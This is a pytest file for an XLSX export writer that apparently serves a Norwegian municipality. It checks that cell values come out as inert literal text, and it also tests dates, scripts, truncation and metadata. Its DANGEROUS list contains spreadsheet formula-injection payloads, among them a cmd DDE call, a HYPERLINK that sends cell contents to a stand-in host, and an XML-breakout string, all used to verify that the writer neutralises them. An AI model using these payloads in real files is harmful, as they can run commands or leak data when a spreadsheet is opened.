"""The writer: what stands in a cell is what was said, and nothing that a spreadsheet could run."""

import re
import zipfile
from datetime import UTC, date, datetime, time
from io import BytesIO
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from exports.sheets import Sheet
from exports.xlsx import write
from exports.xlsx_rows import CELL_LIMIT, fitting

AT = datetime(2026, 11, 23, 8, 0, tzinfo=UTC)


def workbook(*values: Any) -> bytes:
    """A file of one sheet with one row of `values`."""
    heads = [f"Kolonne {number}" for number, _value in enumerate(values, 1)]
    sheet = Sheet("Ark", heads, [20] * len(values), heads, iter([values]))
    data, rows = write([sheet], made_at=AT, title="Stafettlogg", company="Solvik kommune")
    assert rows == 1
    return data


def read_row(data: bytes) -> list[Any]:
    return CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()[1]


def xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://ond.example?x="&A1;"Klikk")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    '=DDE("cmd";"/C calc";"x")',
    "{=1}",
    "https://ond.example/",
    "mailto:noen@familie.example",
    "internal:Ark!A1",
    "external:c:\\x.xlsx",
    "24901851138",
    "1E5",
    "01.02.2026",
    "TRUE",
    "<r>ikke</r>",
    "<r><t>merking</t></r>",
    "</t></is></c><c><f>1+1</f></c>",
    "&lt;f&gt;",
    "_x003D_1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_stays_the_text_it_is(text: str) -> None:
    data = workbook(text, "ved siden av")
    told = read_row(data)
    assert told[0].rstrip(" ") == text.replace("\r", "\n")
    assert told[1] == "ved siden av"
    sheet = xml(data)["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert "hyperlink" not in sheet
    assert 't="inlineStr"' in sheet


def test_what_looks_like_a_formula_is_quoted_so_that_editing_makes_none() -> None:
    styles = xml(workbook("=1"))
    quoted = re.search(r'<c r="A2" s="(\d+)"', styles["xl/worksheets/sheet1.xml"])
    formats = re.search(r"<cellXfs.*?</cellXfs>", styles["xl/styles.xml"], re.S)
    assert quoted
    assert formats
    assert 'quotePrefix="1"' in re.findall(r"<xf .*?(?:/>|</xf>)", formats[0], re.S)[int(quoted[1])]


def test_every_kind_of_value_is_its_own_kind_of_cell() -> None:
    moment = datetime(2026, 6, 30, 22, 30, 15, 999_999, tzinfo=UTC)
    values = [True, False, 3, date(2026, 3, 29), moment, time(9, 15), None, "", "0123"]
    assert read_row(workbook(*values)) == [
        "Ja",
        "Nei",
        3.0,
        date(2026, 3, 29),
        # The hour in Oslo, and no fractions.
        datetime.fromisoformat("2026-07-01T00:30:15"),
        time(9, 15),
        "",
        "",
        "0123",
    ]


def test_dates_are_shown_as_norwegians_write_them() -> None:
    styles = xml(workbook(date(2026, 3, 29), AT))["xl/styles.xml"]
    assert 'formatCode="dd.mm.yyyy"' in styles
    assert 'formatCode="dd.mm.yyyy hh:mm"' in styles


@pytest.mark.parametrize("code", [*range(9), 11, 12, *range(14, 32), 0x7F, 0x85, 0xD800, 0xFFFE, 0xFFFF])
def test_character_that_no_xml_can_hold_is_marked(code: int) -> None:
    assert read_row(workbook(f"før{chr(code)}etter", "ved siden av")) == ["før�etter", "ved siden av"]


@pytest.mark.parametrize("text", ["😀 سلام ሰላም", "e\u0301", "\u202emotsatt", "👩‍👧", "\u00a0", "æøå §"])
def test_every_script_is_kept(text: str) -> None:
    assert read_row(workbook(text)) == [text]


@pytest.mark.parametrize("unit", ["a", "😀"])
def test_text_longer_than_a_cell_is_cut_and_says_so(unit: str) -> None:
    full = unit * (CELL_LIMIT // (len(unit.encode("utf-16-le")) // 2))
    assert fitting(full) == full
    (told,) = read_row(workbook(full + unit * 5))
    assert told.endswith(" …")
    assert len(told.encode("utf-16-le")) // 2 <= CELL_LIMIT


def test_equal_input_gives_equal_bytes() -> None:
    assert workbook("a", date(2026, 1, 1)) == workbook("a", date(2026, 1, 1))


def test_heading_stays_in_sight_and_filters() -> None:
    parts = xml(workbook("a", "b"))
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert 'state="frozen"' in sheet
    assert 'topLeftCell="A2"' in sheet
    assert '<autoFilter ref="A1:B2"' in sheet
    assert "_xlnm.Print_Titles" in parts["xl/workbook.xml"]


def test_properties_name_the_kommune_alone() -> None:
    parts = xml(workbook("Lisa"))
    properties = parts["docProps/core.xml"] + parts["docProps/app.xml"]
    assert "Solvik kommune" in properties
    assert "2026-11-23T08:00:00Z" in properties
    assert "Lisa" not in properties
    assert re.search(r"<dc:creator></dc:creator>|<dc:creator/>", properties)


def test_nothing_is_left_on_disk(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def broken() -> Any:
        yield ["en rad"]
        raise RuntimeError

    workbook("a")
    with pytest.raises(RuntimeError):
        write([Sheet("Ark", ["A"], [9], ["a"], broken())], made_at=AT, title="", company="")
    assert list(tmp_path.iterdir()) == []
